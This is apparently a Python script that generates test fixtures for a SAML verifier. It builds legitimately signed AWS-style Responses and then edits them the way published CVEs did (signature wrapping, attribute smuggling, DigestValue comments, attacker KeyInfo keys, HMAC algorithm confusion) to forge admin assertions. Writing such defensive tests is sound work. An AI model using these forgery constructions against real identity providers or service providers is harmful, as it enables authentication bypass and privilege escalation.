#!/usr/bin/env python3
"""Builds the attack catalogue in tests/fixtures/attacks/ (read by tests/attacks.rs).

Every case starts from a Response that xmlsec1 signed legitimately with a key this
script made, then is edited the way the published attack edits it. Each case is named
after the advisory (CVE / GHSA id and the affected library) whose technique it
reproduces; the README line says what the attack does, what a vulnerable SP reads and
what a correct verifier must say. Positive controls sit next to them (legitimately
signed messages of unusual but legal shapes), so a verifier that refuses everything
cannot pass.

Each file is checked with `xmlsec1 --verify` against the IdP's certificate and what
xmlsec1 says is recorded in the manifest (tests/attacks.rs checks it again). xmlsec1
verifies only the signature it finds first and does not ask what an SP will read, so it
accepts some wrapping cases: the manifest says so, and our verdict must still refuse
them.

Deterministic: the keys and certificates are made once and kept (RSA PKCS#1 v1.5
signatures over the same bytes are the same bytes), so a re-run rewrites the same files.
`--out DIR` writes the catalogue elsewhere (the keys are taken from the committed
catalogue), which is how the test checks that the committed files are in step.

Only Python's standard library, openssl, xmlsec1 and xmllint are used. The keys are
throw-away test keys; nothing trusts them.

Run: python3 scripts/make-attacks.py [--out DIR]
"""

import argparse
import base64
import hashlib
import hmac
import os
import re
import shutil
import subprocess
import sys
import tempfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIXTURES = os.path.join(ROOT, "tests", "fixtures", "attacks")

DS = "http://www.w3.org/2000/09/xmldsig#"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
ENVELOPED = DS + "enveloped-signature"
PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol"
ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion"
METADATA = "urn:oasis:names:tc:SAML:2.0:metadata"
ACS = "https://signin.aws.amazon.com/saml"
ACCOUNT = "111122223333"
PROVIDER = f"arn:aws:iam::{ACCOUNT}:saml-provider/ExampleIdP"
ROLE = f"arn:aws:iam::{ACCOUNT}:role/SamlReadOnly,{PROVIDER}"
ADMIN_ROLE = f"arn:aws:iam::{ACCOUNT}:role/Admin,{PROVIDER}"
VICTIM = "alice@example.test"
ATTACKER_NAME = "admin@example.test"
RESPONSE_ID = "_r-3f1c9a2e"
ASSERTION_ID = "_a-7d40b6c1"
FORGED_ID = "_a-forged-9e21"
# xmlsec1 needs to be told which attributes are IDs (SAML declares them in its schema).
ID_ATTRS = [
    f"--id-attr:ID", f"{PROTOCOL}:Response",
    f"--id-attr:ID", f"{ASSERTION}:Assertion",
    f"--id-attr:ID", f"{METADATA}:EntityDescriptor",
]


# --- keys ----------------------------------------------------------------------------


def run(arguments, stdin=None, check=True):
    result = subprocess.run(arguments, input=stdin, capture_output=True)
    if check and result.returncode != 0:
        sys.exit(f"{' '.join(arguments)} failed:\n{result.stderr.decode(errors='replace')}")
    return result


def certificate(keys, name, serial):
    """A self-signed RSA 2048 certificate with fixed dates (made once, then kept)."""
    key = os.path.join(keys, name + ".key")
    pem = os.path.join(keys, name + ".pem")
    if os.path.exists(key) and os.path.exists(pem):
        return
    run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", key])
    with tempfile.TemporaryDirectory() as work:
        # `openssl req` cannot set a start date before OpenSSL 3.4; `openssl ca -selfsign` can.
        csr = os.path.join(work, "req.csr")
        run(["openssl", "req", "-new", "-key", key, "-subj",
             "/CN=idp.example.test/O=SAML Inspector Attack Catalogue", "-out", csr])
        open(os.path.join(work, "index.txt"), "w").close()
        with open(os.path.join(work, "serial"), "w") as serial_file:
            serial_file.write(serial + "\n")
        config = os.path.join(work, "ca.cnf")
        with open(config, "w") as config_file:
            config_file.write(f"""[ca]
default_ca = catalogue
[catalogue]
database = {work}/index.txt
new_certs_dir = {work}
serial = {work}/serial
default_md = sha256
policy = anything
unique_subject = no
copy_extensions = none
[anything]
commonName = supplied
organizationName = optional
[extensions]
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature
""")
        run(["openssl", "ca", "-batch", "-config", config, "-selfsign", "-keyfile", key,
             "-in", csr, "-out", pem, "-notext", "-startdate", "20240101000000Z",
             "-enddate", "20340101000000Z", "-extensions", "extensions"])


def certificate_base64(keys, name):
    with open(os.path.join(keys, name + ".pem")) as pem:
        return "".join(line.strip() for line in pem if not line.startswith("-----"))


def rsa_key_value(keys, name):
    """The key's modulus and exponent as an XML-DSig RSAKeyValue (base64 big-endian)."""
    text = run(["openssl", "rsa", "-in", os.path.join(keys, name + ".key"), "-noout", "-text"]).stdout.decode()
    modulus_hex = re.search(r"modulus:\n((?:\s+[0-9a-f:]+\n)+)", text).group(1)
    modulus = bytes.fromhex(re.sub(r"[\s:]", "", modulus_hex)).lstrip(b"\0")
    exponent = int(re.search(r"publicExponent: (\d+)", text).group(1))
    exponent_bytes = exponent.to_bytes((exponent.bit_length() + 7) // 8, "big")
    return (
        f"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{base64.b64encode(modulus).decode()}</ds:Modulus>"
        f"<ds:Exponent>{base64.b64encode(exponent_bytes).decode()}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
    )


# --- messages --------------------------------------------------------------------------


def signature_template(uri, *, method=RSA_SHA256, prefix_list=None, declare=True, transforms=None,
                       key_info="<ds:KeyInfo><ds:X509Data><ds:X509Certificate/></ds:X509Data></ds:KeyInfo>"):
    """An empty enveloped-signature template for xmlsec1 to fill in."""
    declaration = f' xmlns:ds="{DS}"' if declare else ""
    inclusive = ""
    if prefix_list is not None:
        inclusive = f'<ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="{prefix_list}"/>'
    if transforms is None:
        transforms = (
            f'<ds:Transform Algorithm="{ENVELOPED}"/>\n'
            f'          <ds:Transform Algorithm="{EXC_C14N}">{inclusive}</ds:Transform>'
        )
    return f"""<ds:Signature{declaration}>
      <ds:SignedInfo>
        <ds:CanonicalizationMethod Algorithm="{EXC_C14N}"/>
        <ds:SignatureMethod Algorithm="{method}"/>
        <ds:Reference URI="{uri}">
          <ds:Transforms>
          {transforms}
          </ds:Transforms>
          <ds:DigestMethod Algorithm="{SHA256}"/>
          <ds:DigestValue/>
        </ds:Reference>
      </ds:SignedInfo>
      <ds:SignatureValue/>
      {key_info}
    </ds:Signature>"""


def assertion(*, assertion_id=ASSERTION_ID, name_id=VICTIM, role=ROLE, session=None,
              signature="", prefix="saml", declare="", extra_attributes=""):
    """An AWS-flavoured Assertion; `signature` goes right after its Issuer."""
    p = f"{prefix}:" if prefix else ""
    session = session or name_id
    signature = f"\n    {signature}" if signature else ""
    return f"""<{p}Assertion{declare} ID="{assertion_id}"{extra_attributes} Version="2.0" IssueInstant="2025-03-04T09:15:00Z">
    <{p}Issuer>https://idp.example.test/saml</{p}Issuer>{signature}
    <{p}Subject>
      <{p}NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{name_id}</{p}NameID>
      <{p}SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">
        <{p}SubjectConfirmationData NotOnOrAfter="2025-03-04T09:20:00Z" Recipient="{ACS}"/>
      </{p}SubjectConfirmation>
    </{p}Subject>
    <{p}Conditions NotBefore="2025-03-04T09:10:00Z" NotOnOrAfter="2025-03-04T10:15:00Z">
      <{p}AudienceRestriction><{p}Audience>urn:amazon:webservices</{p}Audience></{p}AudienceRestriction>
    </{p}Conditions>
    <{p}AuthnStatement AuthnInstant="2025-03-04T09:14:58Z" SessionIndex="{assertion_id}">
      <{p}AuthnContext><{p}AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</{p}AuthnContextClassRef></{p}AuthnContext>
    </{p}AuthnStatement>
    <{p}AttributeStatement>
      <{p}Attribute Name="https://aws.amazon.com/SAML/Attributes/Role" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">
        <{p}AttributeValue>{role}</{p}AttributeValue>
      </{p}Attribute>
      <{p}Attribute Name="https://aws.amazon.com/SAML/Attributes/RoleSessionName" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">
        <{p}AttributeValue>{session}</{p}AttributeValue>
      </{p}Attribute>
    </{p}AttributeStatement>
  </{p}Assertion>"""


def response(body, *, signature="", declarations=""):
    """A Response to AWS around `body` (one or more assertions); `signature` after its Issuer."""
    signature = f"\n  {signature}" if signature else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<samlp:Response xmlns:samlp="{PROTOCOL}" xmlns:saml="{ASSERTION}"{declarations} ID="{RESPONSE_ID}" Version="2.0" IssueInstant="2025-03-04T09:15:00Z" Destination="{ACS}">
  <saml:Issuer>https://idp.example.test/saml</saml:Issuer>{signature}
  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
  {body}
</samlp:Response>
"""


def forged_assertion(assertion_id=FORGED_ID, extra_attributes="", prefix="saml", declare=""):
    """The attacker's unsigned assertion: another user, the admin role."""
    return assertion(assertion_id=assertion_id, name_id=ATTACKER_NAME, role=ADMIN_ROLE,
                     extra_attributes=extra_attributes, prefix=prefix, declare=declare)


# --- signing ---------------------------------------------------------------------------


class Signer:
    def __init__(self, keys, work):
        self.keys = keys
        self.work = work

    def sign(self, template, name="idp", extra=()):
        """Fills the first empty signature of `template` with xmlsec1, keyed by `name`."""
        source = os.path.join(self.work, "template.xml")
        output = os.path.join(self.work, "signed.xml")
        with open(source, "w") as file:
            file.write(template)
        key = os.path.join(self.keys, name + ".key")
        pem = os.path.join(self.keys, name + ".pem")
        arguments = ["xmlsec1", "--sign", *extra]
        if name != "hmac":
            arguments += ["--privkey-pem", f"{key},{pem}"]
        run(arguments + [*ID_ATTRS, "--output", output, source])
        with open(output) as file:
            return file.read()

    def verify(self, xml, name="idp"):
        """What `xmlsec1 --verify` says with `name`'s certificate: OK or FAIL."""
        path = os.path.join(self.work, "verify.xml")
        with open(path, "w") as file:
            file.write(xml)
        result = run(["xmlsec1", "--verify", "--pubkey-cert-pem", os.path.join(self.keys, name + ".pem"),
                      *ID_ATTRS, path], check=False)
        return "OK" if result.returncode == 0 else "FAIL"

    def canonical_signed_info(self, xml):
        """Exclusive C14N of the (first) SignedInfo, by xmllint: it renders only the
        namespaces SignedInfo visibly uses, so the element alone with `ds` declared on it
        canonicalizes as it does in place."""
        signed_info = re.search(r"<ds:SignedInfo>.*?</ds:SignedInfo>", xml, re.S).group(0)
        signed_info = signed_info.replace("<ds:SignedInfo>", f'<ds:SignedInfo xmlns:ds="{DS}">', 1)
        path = os.path.join(self.work, "signed-info.xml")
        with open(path, "w") as file:
            file.write(signed_info)
        return run(["xmllint", "--exc-c14n", path]).stdout

    def resign_rsa(self, xml, name="idp"):
        """Replaces the first SignatureValue with an RSA-SHA256 signature by `name` over
        the first SignedInfo as it now stands."""
        canonical = self.canonical_signed_info(xml)
        value = run(["openssl", "dgst", "-sha256", "-sign", os.path.join(self.keys, name + ".key")],
                    stdin=canonical).stdout
        return replace_signature_value(xml, base64.b64encode(value).decode())


def replace_signature_value(xml, value):
    wrapped = "\n".join(value[i:i + 64] for i in range(0, len(value), 64))
    return re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>",
                  lambda _: f"<ds:SignatureValue>{wrapped}</ds:SignatureValue>", xml, count=1, flags=re.S)


def digest_b64(data):
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def once(text, old, new):
    """`text` with the one occurrence of `old` replaced; anything else is a generator bug."""
    count = text.count(old)
    if count != 1:
        sys.exit(f"expected exactly one {old!r}, found {count}")
    return text.replace(old, new)


def element(xml, start, end):
    """The first element of `xml` from `start` up to and including `end`."""
    begin = xml.index(start)
    return xml[begin:xml.index(end, begin) + len(end)]


# --- the catalogue --------------------------------------------------------------------


class Case:
    """One file of the catalogue and what a correct verifier says about it.

    `expect` is `trusted` or `none`/`unpinned` (what `assertion_signature` must be);
    `findings` lists requirements `id|id=severity|severity` (any of the ids, any of the
    severities); `mentions` are words the first required finding's text must contain."""

    def __init__(self, file, kind, advisory, what, reads, verdict, expect, findings=(), mentions=()):
        self.file = file
        self.kind = kind
        self.advisory = advisory
        self.what = what
        self.reads = reads
        self.verdict = verdict
        self.expect = expect
        self.findings = list(findings)
        self.mentions = list(mentions)
        self.xml = None
        self.xmlsec1 = None


def build(signer, keys):
    cases = []

    def add(case, xml):
        case.xml = xml
        case.xmlsec1 = signer.verify(xml)
        cases.append(case)

    # The legitimate messages every case starts from.
    signed_assertion_template = response(assertion(signature=signature_template(f"#{ASSERTION_ID}")))
    base = signer.sign(signed_assertion_template)
    # The generator's own check: re-signing an untouched SignedInfo by hand must give
    # xmlsec1's bytes, or the hand-signed cases below would prove nothing.
    if signer.resign_rsa(base) != base:
        sys.exit("hand signing does not reproduce xmlsec1's SignatureValue")
    response_signed = signer.sign(response(assertion(), signature=signature_template(f"#{RESPONSE_ID}")))
    signed = element(base, f'<saml:Assertion ID="{ASSERTION_ID}"', "</saml:Assertion>")
    forged = forged_assertion()
    wrapping_finding = ["core.assertion.count|core.sig.coverage=error"]
    hidden = [ATTACKER_NAME]

    # --- positive controls ------------------------------------------------------------
    add(Case("control-assertion-signed.xml", "control", "control",
             "The untouched message: the Assertion signed by the IdP (RSA-SHA256, exclusive C14N).",
             "alice, ReadOnly", "trusted", "trusted"), base)
    add(Case("control-response-signed.xml", "control", "control",
             "Only the Response signed (URI=#Response ID): the signature covers the Assertion inside it.",
             "alice, ReadOnly", "trusted", "trusted"), response_signed)
    # xmlsec1 fills the first signature in document order, and the Response's comes first:
    # sign the Assertion, then add the Response's template and sign again, as IdPs do (the
    # Response signature covers the Assertion's).
    both = signer.sign(base.replace(f'<saml:Issuer>https://idp.example.test/saml</saml:Issuer>\n  <samlp:Status>',
                                    "<saml:Issuer>https://idp.example.test/saml</saml:Issuer>\n  "
                                    + signature_template(f"#{RESPONSE_ID}") + "\n  <samlp:Status>", 1))
    add(Case("control-both-signed.xml", "control", "control",
             "Assertion signed, then the Response signed over it (\"sign both\").",
             "alice, ReadOnly", "trusted", "trusted"), both)
    for split, text, word in [
        ("comment", f"alice@example.test<!---->.evil.test", "comment"),
        ("cdata", f"alice@example.test<![CDATA[.evil.test]]>", "CDATA"),
        ("pi", f"alice@example.test<?split?>.evil.test", "processing instruction"),
    ]:
        template = response(assertion(name_id=text, session="alice",
                                      signature=signature_template(f"#{ASSERTION_ID}")))
        add(Case(f"control-nameid-{split}-signed.xml", "control", "control",
                 f"The IdP signed a NameID split by a {word} (signed after the split): the "
                 "signature covers the whole joined text alice@example.test.evil.test.",
                 "alice@example.test (first text piece) or alice@example.test.evil.test (joined)",
                 f"trusted at the signature level; core.nameid warns that the NameID is split by a {word}",
                 "trusted", ["core.nameid=warning|error"], [word]),
            signer.sign(template))
    okta_like = response(assertion(signature=signature_template(f"#{ASSERTION_ID}", prefix_list="xs"),
                                   declare=' xmlns:xs="http://www.w3.org/2001/XMLSchema"'
                                           ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"')
                         .replace("<saml:AttributeValue>", '<saml:AttributeValue xsi:type="xs:string">'))
    add(Case("control-inclusive-namespaces-prefixlist.xml", "control", "control",
             "Exclusive C14N with InclusiveNamespaces PrefixList=\"xs\" (xs used only inside "
             "xsi:type values), as Okta signs.",
             "alice, ReadOnly", "trusted", "trusted"), signer.sign(okta_like))
    ds_on_root = response(assertion(signature=signature_template(f"#{ASSERTION_ID}", declare=False)),
                          declarations=f' xmlns:ds="{DS}"')
    add(Case("control-ds-namespace-on-ancestor.xml", "control", "control",
             "The ds prefix declared on the Response (an ancestor of the signed Assertion), "
             "not on ds:Signature: exclusive C14N renders it where it is used.",
             "alice, ReadOnly", "trusted", "trusted"), signer.sign(ds_on_root))
    default_ns = response(assertion(prefix="", signature=signature_template(f"#{ASSERTION_ID}")),
                          declarations=f' xmlns="{ASSERTION}"')
    add(Case("control-default-namespace-on-ancestor.xml", "control", "control",
             "The Assertion's elements unprefixed, the default namespace declared only on the "
             "Response above the signed Assertion.",
             "alice, ReadOnly", "trusted", "trusted"), signer.sign(default_ns))
    value = re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", base, re.S).group(1)
    flat = re.sub(r"\s", "", value)
    reflowed = "&#13;\n\t " + "&#13;\n\t ".join(flat[i:i + 76] for i in range(0, len(flat), 76)) + " \n"
    add(Case("control-signaturevalue-whitespace.xml", "control", "control",
             "The SignatureValue re-wrapped at 76 columns with CR (&#13;), LF, tabs and spaces "
             "around it, as .NET and Java signers write it: base64 whitespace is not content.",
             "alice, ReadOnly", "trusted", "trusted"),
        re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>",
               lambda _: f"<ds:SignatureValue>{reflowed}</ds:SignatureValue>", base, count=1, flags=re.S))

    # --- signatures hidden in wrappers -------------------------------------------------
    add(Case("cve-2025-47949-samlify-forged-assertion-first.xml", "attack",
             "CVE-2025-47949 (samlify)",
             "An unsigned Assertion for admin@example.test is inserted before the signed one; the "
             "signature still verifies over the original by its ID.",
             "the first Assertion: admin@example.test with the Admin role",
             "not trusted: a wrapping error naming the unsigned Assertion and its NameID",
             "none", wrapping_finding, hidden),
        once(base, "  " + signed, "  " + forged + "\n  " + signed))
    add(Case("cve-2025-46572-passport-wsfed-saml2-forged-assertion-after.xml", "attack",
             "CVE-2025-46572 / GHSA-wjmp-wphq-jvqf (passport-wsfed-saml2)",
             "Signature wrapping: an unsigned Assertion for admin@example.test added after the "
             "signed one.",
             "an SP that takes the last (or any) Assertion: admin@example.test",
             "not trusted: a wrapping error naming the unsigned Assertion and its NameID",
             "none", wrapping_finding, hidden),
        once(base, signed, signed + "\n  " + forged))
    extensions = f"<samlp:Extensions>\n    {forged_assertion()}\n  </samlp:Extensions>"
    add(Case("cve-2025-54419-node-saml-assertion-in-extensions.xml", "attack",
             "CVE-2025-54419 / GHSA-4mxg-3p6v-xgq3 (@node-saml/node-saml)",
             "An unsigned Assertion hidden in samlp:Extensions of the Response; the signed "
             "Assertion stays in place.",
             "an SP that loads the assertion from the whole document (//Assertion): admin@example.test",
             "not trusted: a wrapping error saying an Assertion sits in Extensions and claims admin@example.test",
             "none", wrapping_finding, hidden + ["Extensions"]),
        once(base, "\n  <samlp:Status>", "\n  " + extensions + "\n  <samlp:Status>"))
    status = (f"<samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/>"
              f"<samlp:StatusDetail>\n    {forged_assertion()}\n  </samlp:StatusDetail></samlp:Status>")
    add(Case("cve-2025-54369-node-saml-assertion-in-statusdetail.xml", "attack",
             "CVE-2025-54369 / GHSA-m837-g268-mmv7 (@node-saml/node-saml), wrapping class",
             "An unsigned Assertion hidden in samlp:StatusDetail; the signed Assertion stays in place.",
             "an SP that searches the document for an Assertion: admin@example.test",
             "not trusted: a wrapping error saying an Assertion sits in StatusDetail and claims admin@example.test",
             "none", wrapping_finding, hidden + ["StatusDetail"]),
        once(base, '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>',
             status))
    add(Case("cve-2024-45409-ruby-saml-assertion-in-ds-object.xml", "attack",
             "CVE-2024-45409 (ruby-saml), wrapping class",
             "An unsigned Assertion hidden in a ds:Object inside the Assertion's own ds:Signature "
             "(outside what the enveloped signature digests, which skips the Signature element).",
             "an SP that searches for //Assertion inside the signed tree or takes the deepest one: admin@example.test",
             "not trusted: a wrapping error saying an Assertion sits in ds:Object and claims admin@example.test",
             "none", wrapping_finding, hidden + ["Object"]),
        once(base, "</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{forged_assertion()}</ds:Object>"))
    advice_outer = forged_assertion().replace(
        "    <saml:AttributeStatement>",
        "    <saml:Advice>\n" + signed + "\n    </saml:Advice>\n    <saml:AttributeStatement>", 1)
    add(Case("cve-2025-47949-samlify-signed-assertion-in-advice.xml", "attack",
             "CVE-2025-47949 (samlify), XSW with saml:Advice",
             "The signed Assertion is moved into saml:Advice of a new, unsigned Assertion for "
             "admin@example.test that takes its place; the signature still verifies by ID.",
             "the outer Assertion: admin@example.test",
             "not trusted: a wrapping error naming the unsigned outer Assertion and its NameID",
             "none", wrapping_finding, hidden),
        once(base, signed, advice_outer))
    # Keycloak decided what a signature covers from where it sits, not from its Reference.
    response_signature = element(response_signed, '<ds:Signature xmlns:ds=', "</ds:Signature>")
    original_response = response_signed.split("\n", 1)[1].strip()
    keycloak_forged = forged_assertion().replace(
        "<saml:Issuer>https://idp.example.test/saml</saml:Issuer>",
        "<saml:Issuer>https://idp.example.test/saml</saml:Issuer>\n    " + response_signature, 1)
    keycloak = response(keycloak_forged).replace(
        f'ID="{RESPONSE_ID}"', 'ID="_r-outer-5b7e"', 1).replace(
        "\n  <samlp:Status>", f"\n  <samlp:Extensions>{original_response}</samlp:Extensions>\n  <samlp:Status>", 1)
    add(Case("cve-2024-8698-keycloak-signature-moved-into-forged-assertion.xml", "attack",
             "CVE-2024-8698 (Keycloak)",
             "The Response signature of a legitimate message (Reference URI=#Response ID) is moved "
             "inside a forged Assertion; the original signed Response rides along in "
             "samlp:Extensions of a new outer Response, so the reference still resolves and verifies.",
             "a verifier that judges coverage by where the Signature sits: the forged Assertion as signed",
             "not trusted: the valid signature covers the hidden original Response, not the Assertion read",
             "none", wrapping_finding, hidden),
        keycloak)

    metadata = signer.sign(f"""<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="{METADATA}" ID="_md-idp-1" entityID="https://idp.example.test/saml">
  {signature_template("#_md-idp-1")}
  <md:IDPSSODescriptor protocolSupportEnumeration="{PROTOCOL}">
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://idp.example.test/saml/sso"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
""").split("\n", 1)[1].strip()
    grafted = response(forged_assertion()).replace(
        "\n  <samlp:Status>", f"\n  <samlp:Extensions>{metadata}</samlp:Extensions>\n  <samlp:Status>", 1)
    add(Case("cve-2024-6800-ghes-signed-metadata-graft.xml", "attack",
             "CVE-2024-6800 (GitHub Enterprise Server)",
             "The IdP's publicly available signed metadata (a valid signature by the IdP's key) is "
             "grafted into a Response whose only Assertion is forged and unsigned.",
             "an SP satisfied by any valid IdP signature in the document: admin@example.test",
             "not trusted: the valid signature covers the metadata, not the Assertion",
             "none", ["core.sig.coverage|core.sig.present|core.assertion.count=error"], hidden),
        grafted)
    unsigned = re.sub(r"\n    <ds:Signature .*?</ds:Signature>", "", base, flags=re.S)
    add(Case("cve-2025-40934-xml-sig-signature-removed.xml", "attack",
             "CVE-2025-40934 (Perl XML::Sig); also CVE-2026-28323 (SolarWinds Web Help Desk)",
             "The signature is simply removed and the NameID changed: fail-open verification "
             "accepts an unsigned Response.",
             "admin@example.test",
             "not trusted: core.sig.present error (neither Response nor Assertion signed)",
             "none", ["core.sig.present=error"]),
        unsigned.replace(f">{VICTIM}<", f">{ATTACKER_NAME}<"))

    # --- attribute smuggling ----------------------------------------------------------
    smuggled = (f'<samlp:Extensions><saml:AttributeStatement><saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role">'
                f"<saml:AttributeValue>{ADMIN_ROLE}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></samlp:Extensions>")
    add(Case("cve-2025-46573-passport-wsfed-saml2-attribute-smuggling.xml", "attack",
             "CVE-2025-46573 / GHSA-8gqj-226h-gm8r (passport-wsfed-saml2)",
             "An unsigned AttributeStatement granting the Admin role is smuggled into "
             "samlp:Extensions, outside the signed Assertion.",
             "an SP that collects //Attribute over the whole document: the Admin role",
             "not trusted: the unsigned SAML content next to the signed Assertion is flagged as wrapping",
             "none", ["core.sig.coverage|core.assertion.count=error"], ["Admin"]),
        once(base, "\n  <samlp:Status>", "\n  " + smuggled + "\n  <samlp:Status>"))

    # --- XML-DSig verifier confusion --------------------------------------------------
    forged_in_place = signed.replace(f">{VICTIM}<", f">{ATTACKER_NAME}<").replace(ROLE, ADMIN_ROLE)
    tampered = once(base, signed, forged_in_place)
    original_digest = re.search(r"<ds:DigestValue>(.*?)</ds:DigestValue>", base).group(1)
    # The digest the forged assertion would need, computed by xmlsec1 itself: re-sign the
    # forged assertion and read the DigestValue it writes.
    forged_signed = signer.sign(response(assertion(name_id=ATTACKER_NAME, role=ADMIN_ROLE,
                                                   session=VICTIM,
                                                   signature=signature_template(f"#{ASSERTION_ID}"))))
    forged_digest = re.search(r"<ds:DigestValue>(.*?)</ds:DigestValue>", forged_signed).group(1)
    if forged_digest == original_digest:
        sys.exit("the forged assertion digests like the original")
    add(Case("cve-2025-29775-xml-crypto-digestvalue-comment.xml", "attack",
             "CVE-2025-29775 (xml-crypto)",
             "The NameID and Role are changed; the forged assertion's digest is written in a comment "
             "at the start of DigestValue. C14N drops the comment, so SignedInfo still verifies; "
             "software that reads the first child of DigestValue compares against the comment.",
             "admin@example.test",
             "not trusted: digest mismatch (the DigestValue is its text, comments excluded)",
             "none", ["core.sig.valid=error"], ["digest"]),
        once(tampered, f"<ds:DigestValue>{original_digest}", f"<ds:DigestValue><!--{forged_digest}-->{original_digest}"))
    second_signed_info = element(tampered, "<ds:SignedInfo>", "</ds:SignedInfo>").replace(original_digest, forged_digest)
    add(Case("cve-2025-29774-xml-crypto-second-signedinfo.xml", "attack",
             "CVE-2025-29774 (xml-crypto)",
             "The NameID and Role are changed and a second ds:SignedInfo carrying the forged "
             "assertion's digest is added after the original, which still matches SignatureValue.",
             "admin@example.test",
             "not trusted: a Signature with two SignedInfo elements is malformed and refused",
             "none", ["core.sig.valid=error"], ["SignedInfo"]),
        once(tampered, "</ds:SignedInfo>", "</ds:SignedInfo>" + second_signed_info))
    add(Case("cve-2024-45409-ruby-saml-digestvalue-smuggled.xml", "attack",
             "CVE-2024-45409 (ruby-saml)",
             "The NameID and Role are changed; a ds:DigestValue with the forged assertion's digest "
             "is placed in samlp:Extensions, before the signature, for a verifier that looks up "
             "//ds:DigestValue from the document root instead of inside its Reference.",
             "admin@example.test",
             "not trusted: digest mismatch for the Reference's own DigestValue",
             "none", ["core.sig.valid=error"], ["digest"]),
        once(tampered, "\n  <samlp:Status>",
             f'\n  <samlp:Extensions><ds:DigestValue xmlns:ds="{DS}">{forged_digest}</ds:DigestValue></samlp:Extensions>\n  <samlp:Status>'))

    # --- key confusion through KeyInfo -----------------------------------------------
    attacker_signed = signer.sign(response(assertion(name_id=ATTACKER_NAME, role=ADMIN_ROLE,
                                                     signature=signature_template(f"#{ASSERTION_ID}"))),
                                  name="attacker")
    add(Case("cve-2024-32962-xml-crypto-attacker-certificate-in-keyinfo.xml", "attack",
             "CVE-2024-32962 / GHSA-2xp3-57p7-qf4v (xml-crypto)",
             "The attacker signs a forged Assertion with their own key and puts their own "
             "certificate (with the IdP's subject name) in KeyInfo.",
             "a verifier that takes the key from KeyInfo: a valid signature for admin@example.test",
             "not trusted: the signing key is not the trusted IdP key (core.cert.trust)",
             "none", ["core.cert.trust|core.sig.valid=error"]),
        attacker_signed)
    if signer.verify(attacker_signed, name="attacker") != "OK":
        sys.exit("the attacker's signature does not verify with the attacker's key")
    key_value = rsa_key_value(keys, "attacker")
    # KeyInfo is outside SignedInfo and the enveloped transform drops the Signature, so
    # it can be rewritten after signing without touching the signature.
    attacker_key_info = element(attacker_signed, "<ds:KeyInfo>", "</ds:KeyInfo>")
    both_keys = once(attacker_signed, attacker_key_info,
                     f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{certificate_base64(keys, 'idp')}"
                     f"</ds:X509Certificate></ds:X509Data>{key_value}</ds:KeyInfo>")
    add(Case("cve-2024-32962-xml-crypto-keyvalue-beside-idp-certificate.xml", "attack",
             "CVE-2024-32962 / GHSA-2xp3-57p7-qf4v (xml-crypto), KeyValue variant",
             "KeyInfo carries the IdP's real certificate (which a pinning check finds) and the "
             "attacker's RSAKeyValue, with which the forged Assertion is actually signed.",
             "a verifier that pins the certificate but verifies with the KeyValue: admin@example.test",
             "not trusted: the signature does not verify with the trusted key",
             "none", ["core.sig.valid|core.cert.trust=error"]),
        both_keys)
    hmac_key = os.path.join(signer.work, "hmac-key")
    shutil.copyfile(os.path.join(keys, "idp.pem"), hmac_key)
    hmac_signed = signer.sign(
        response(assertion(name_id=ATTACKER_NAME, role=ADMIN_ROLE,
                           signature=signature_template(f"#{ASSERTION_ID}", method=HMAC_SHA256,
                                                        key_info=""))),
        name="hmac", extra=["--hmackey", hmac_key])
    # Cross-check xmlsec1's HMAC with Python's: the key is the certificate's PEM bytes.
    with open(hmac_key, "rb") as file:
        expected = hmac.new(file.read(), signer.canonical_signed_info(hmac_signed), hashlib.sha256).digest()
    actual = re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", hmac_signed, re.S).group(1)
    if base64.b64decode(actual) != expected:
        sys.exit("xmlsec1's HMAC is not keyed by the certificate PEM as intended")
    add(Case("cve-2025-48994-signxml-hmac-algorithm-confusion.xml", "attack",
             "CVE-2025-48994 / GHSA-6vx8-pcwv-xhf4 (signxml), HMAC algorithm confusion; the public-key-as-secret form is xml-crypto's GHSA-c27r-x354-4m68",
             "SignatureMethod hmac-sha256, keyed with the IdP's public certificate (its PEM bytes), "
             "which anyone can download: a verifier that passes the key it holds to whatever "
             "algorithm the message names accepts it.",
             "admin@example.test",
             "not trusted: HMAC is refused by name (a shared secret proves nothing about the IdP)",
             "none", ["core.sig.valid=error"], ["hmac"]),
        hmac_signed)

